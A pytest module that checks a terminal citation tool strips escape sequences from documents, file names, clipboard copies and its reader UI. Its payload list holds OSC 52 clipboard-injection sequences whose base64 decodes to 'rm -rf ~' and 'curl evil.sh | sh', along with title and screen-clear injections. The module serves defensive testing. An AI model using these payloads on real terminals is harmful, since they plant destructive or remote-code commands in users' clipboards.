"""Nothing a document holds reaches a terminal raw: a document with escape sequences in its body and in every
metadata field, put in the corpus by hand (so no import step cleaned it), goes through every output — each command
as a real process (text, JSON, on a pipe and on a pseudo-terminal with colour), the quotes file, the OSC 52 copy, the
reader — and no control character but npf's own colour codes comes out. Plus a property over random controls in
every field, through every output function."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_faults_terminal import run_on_pty

from npf_tui import output
from npf_tui.core.cite import citation
from npf_tui.core.cite.clipboard import osc52_sequence
from npf_tui.core.cite.quotes import make_quote
from npf_tui.core.models import META_KEYS, Document
from npf_tui.core.sources.corpus import load_document, parse_document, render_document
from npf_tui.core.text.controls import UNSAFE_RE, make_safe

ROOT = Path(__file__).resolve().parents[1]
DATA = ROOT / "data"

#: What the red-team pass planted: the clipboard (OSC 52, BEL- and ST-terminated), the window title, a screen clear
#: (7-bit and 8-bit CSI), a right-to-left override, DEL.
PAYLOADS = [
    "\x1b]52;c;cm0gLXJmIH4gIyBwd25lZA==\x07",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "\x9b2J",
    "\u202e",
    "\x7f",
]
#: The same in YAML double-quoted escapes (raw control characters are not allowed in YAML), for the front matter.
YAML_PAYLOAD = r"\e]52;c;cm0gLXJmIH4=\a \e]0;pwned\a \e[2J \x9b2J \u202e"
DOC_ID = "zebraquail-report"
#: Our own colour codes and line clears, and carriage returns: the only controls npf may write itself.
OWN = re.compile(r"\x1b\[[0-9;]*[mK]|\r")


def assert_harmless(text: str, where: str) -> None:
    """No control character of a document survives in `text` (npf's own SGR codes aside)."""
    left = OWN.sub("", text)
    bad = sorted({f"U+{ord(c):04X}" for c in UNSAFE_RE.findall(left)})
    assert not bad, f"{where}: {bad} in {text[:300]!r}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Path, dict[str, str]]:
    """(corpus, index, environment): the bundled corpus plus the hostile document, written by hand."""
    base = tmp_path_factory.mktemp("hostile")
    corpus = base / "corpus"
    shutil.copytree(DATA, corpus)
    body = "\n\n".join(f"Zebraquail report {p} says the zebraquail flies. {p}" for p in PAYLOADS)
    front = "\n".join(
        f'{key}: "Zebraquail {key} {YAML_PAYLOAD}"' for key in ("title", "author", "outlet", "url", "note")
    )
    (corpus / f"{DOC_ID}.md").write_text(
        f"---\n{front}\npublished: 2024-05-01\nlanguage: en\n---\n\n{body}\n", encoding="utf-8"
    )
    env = dict(os.environ)
    for var in ("DISPLAY", "WAYLAND_DISPLAY", "TMUX"):
        env.pop(var, None)
    env.update(
        NPF_CONFIG=str(base / "config.toml"),
        XDG_CONFIG_HOME=str(base / "xdg-config"),
        XDG_DATA_HOME=str(base / "xdg-data"),
        XDG_CACHE_HOME=str(base / "xdg-cache"),
        NO_COLOR="1",
    )
    index = base / "index"
    proc = subprocess.run(npf(corpus, index, "index"), capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 0, proc.stderr
    return corpus, index, env


def npf(corpus: Path, index: Path, *args: str) -> list[str]:
    """The command line of an npf process on the hostile corpus."""
    return [sys.executable, "-m", "npf_tui.cli", "--corpus", str(corpus), "--index", str(index), *args]


COMMANDS = [
    ["search", "zebraquail"],
    ["search", "zebraquail", "--json"],
    ["search", "pwned"],
    ["show", DOC_ID],
    ["show", DOC_ID, "--json"],
    ["show", DOC_ID, "--para", "1"],
    ["docs"],
    ["docs", "--json"],
    ["quote", "zebraquail"],
    ["quote", "zebraquail", "--format", "markdown"],
    ["quote", "zebraquail", "--sentence"],
    ["quote", "zebraquail", "--json"],
    ["quote", "zebraquail", "--copy"],
    ["cite", DOC_ID],
    ["cite", DOC_ID, "--style", "apa"],
    ["cite", DOC_ID, "--style", "gb7714-numeric"],
    ["cite", DOC_ID, "--bibtex"],
    ["cite", DOC_ID, "--csl-json"],
    ["cite", DOC_ID, "--json"],
    ["entities", DOC_ID],
    ["entities", "--json"],
    ["entity", "Zebraquail"],
    ["index", "--json"],
]


@pytest.mark.parametrize("args", COMMANDS, ids=" ".join)
def test_every_command_prints_no_control_characters(hostile, args):
    corpus, index, env = hostile
    proc = subprocess.run(npf(corpus, index, *args), capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode in (0, 1), proc.stderr
    assert_harmless(proc.stdout, "stdout")
    assert_harmless(proc.stderr, "stderr")
    if "--json" in args or "--csl-json" in args:
        json.loads(proc.stdout)  # still valid JSON, the data escaped rather than lost
    if args[0] in ("search", "show", "quote") and proc.returncode == 0:
        assert "␛" in proc.stdout  # the sequences are shown, visibly, not dropped: the check above is not vacuous


def test_quotes_file_and_osc52_copy_hold_no_control_characters(hostile):
    corpus, index, env = hostile
    proc = subprocess.run(
        npf(corpus, index, "quote", "zebraquail", "--copy", "--json"), capture_output=True, text=True, env=env
    )
    assert proc.returncode in (0, 1), proc.stderr
    quotes = list(Path(env["XDG_DATA_HOME"]).rglob("*.md")) + list(Path(env["XDG_DATA_HOME"]).rglob("*.txt"))
    assert quotes, "the quote was saved somewhere under the data folder"
    for path in quotes:
        assert_harmless(path.read_text(encoding="utf-8"), str(path))
    quote = json.loads(proc.stdout)
    text = quote.get("text") or quote.get("quote") or ""
    # what npf would send the terminal for --copy: its own OSC 52 sequence around a payload that decodes to
    # harmless text
    sequence = osc52_sequence(make_safe(text))
    payload = re.search(r"\x1b\]52;c;([A-Za-z0-9+/=]*)", sequence)
    assert payload is not None
    assert_harmless(base64.b64decode(payload.group(1)).decode("utf-8"), "OSC 52 payload")


@pytest.mark.parametrize("args", [["search", "zebraquail"], ["show", DOC_ID]])  # the coloured outputs
def test_colour_output_on_a_terminal_has_only_npf_own_escapes(hostile, args):
    corpus, index, env = hostile
    env = {k: v for k, v in env.items() if k != "NO_COLOR"} | {"TERM": "xterm-256color"}
    out = run_on_pty(["--corpus", str(corpus), "--index", str(index), *args], env)
    assert "\x1b[" in out  # colour is on: the check below is not vacuous
    assert_harmless(out, "pty")


def test_add_summary_names_a_hostile_file_harmlessly(hostile, tmp_path):
    corpus, index, env = hostile
    source = tmp_path / "evil\x1b]0;pwned\x07name.txt"
    source.write_text("Kestrelmoth notes\n\nA kestrelmoth \x1b]52;c;cm0=\x07 was seen.\n", encoding="utf-8")
    work = tmp_path / "corpus"
    shutil.copytree(corpus, work)
    for args in (["add", str(source)], ["add", str(source), "--json"], ["add", "--dry-run", str(tmp_path)]):
        proc = subprocess.run(npf(work, tmp_path / "idx", *args), capture_output=True, text=True, env=env, timeout=120)
        assert proc.returncode in (0, 1), proc.stderr
        assert_harmless(proc.stdout, f"{args} stdout")
        assert_harmless(proc.stderr, f"{args} stderr")
    for path in work.glob("*.md"):
        assert "\x1b" not in path.read_text(encoding="utf-8") or path.name == f"{DOC_ID}.md"


def test_a_document_file_named_with_control_characters_is_skipped_with_a_notice(hostile, tmp_path):
    corpus, _, env = hostile
    work = tmp_path / "corpus"
    shutil.copytree(corpus, work)
    (work / "bad\x1b]0;x\x07name.md").write_text("---\ntitle: Bad\n---\n\nText.\n", encoding="utf-8")
    proc = subprocess.run(npf(work, tmp_path / "idx", "docs"), capture_output=True, text=True, env=env, timeout=120)
    assert proc.returncode == 0 and "rename the file" in proc.stderr
    assert_harmless(proc.stdout + proc.stderr, "docs")


# --- the reader -------------------------------------------------------------------------------------------------
@pytest.mark.asyncio
async def test_reader_shows_the_hostile_document_harmlessly(hostile):
    from test_ui_support import make_app, open_first

    from npf_tui.core.search.library import Library

    corpus, index, _ = hostile
    library = Library.open(corpus, index)
    try:
        app = make_app(library)
        async with app.run_test(size=(100, 30)) as pilot:
            await open_first(pilot, "zebraquail")
            screen = app.export_screenshot()
            assert "␛" in screen  # the sequences are there, visible
            assert_harmless(screen, "reader screenshot")
            pane = app.screen.current
            for text in [*pane.document.paragraphs, *pane.document.meta().values()]:
                assert_harmless(text, "reader document")
            app.notify("imported evil\x1b]52;c;cm0=\x07.txt", title="\x1b]0;t\x07")
            await pilot.pause()
            notes = [n for n in app._notifications]  # noqa: SLF001 - Textual keeps no public list of toasts
            assert notes and all(UNSAFE_RE.search(n.message + n.title) is None for n in notes)
    finally:
        library.close()


# --- every output function, with random controls in every field ---------------------------------------------------
CONTROLS = st.sampled_from(
    [chr(c) for c in [*range(0, 9), *range(11, 32), *range(0x7F, 0xA0)]]
    + list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c")
)
FIELD = st.lists(st.one_of(CONTROLS, st.sampled_from(list("abc xyz 新质 ;[]()"))), min_size=1, max_size=40).map("".join)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.dictionaries(st.sampled_from([*META_KEYS, "note"]), FIELD, max_size=8), st.lists(FIELD, min_size=1, max_size=4)
)
def test_random_controls_in_any_field_reach_no_output(meta, paragraphs):
    known = {k: v for k, v in meta.items() if k in META_KEYS and k != "language"}
    extra = {k: v for k, v in meta.items() if k not in META_KEYS}
    raw = Document(doc_id="fuzz", paragraphs=[p + " zebraquail" for p in paragraphs], extra=extra, **known)
    doc = parse_document("fuzz", render_document(raw))
    outputs = [
        output.document_text(doc, colour=False),
        output.document_text(doc, colour=True),
        output.dumps(output.document_json(doc)),
        output.dumps(output.doc_json(doc.doc_id, doc.meta(), len(doc.paragraphs))),
        citation.bibtex(doc),
        output.dumps(citation.csl_json(doc)),
    ]
    for style in citation.STYLES:
        for cite in (citation.bibliography_entry(doc, style), citation.in_text(doc, style, 1)):
            outputs += [cite.text, cite.markdown]
    for fmt in ("plain", "markdown"):
        quote = make_quote(doc, 1, fmt=fmt)
        outputs += [quote.formatted, quote.in_text, quote.reference, quote.reference_markdown]
    for text in outputs:
        assert_harmless(str(text), "output")


def test_loaded_documents_are_safe_whatever_the_file_holds(tmp_path):
    path = tmp_path / "raw.md"
    path.write_text(
        f'---\ntitle: "T {YAML_PAYLOAD}"\nauthor: "\\x9b31m A"\n---\n\n' + "\n\n".join(PAYLOADS) + "\n",
        encoding="utf-8",
    )
    doc = load_document(path)
    for text in [*doc.paragraphs, *doc.meta().values()]:
        assert_harmless(text, "loaded")
    assert "␛]52;c;" in doc.paragraphs[0]  # made visible, not dropped
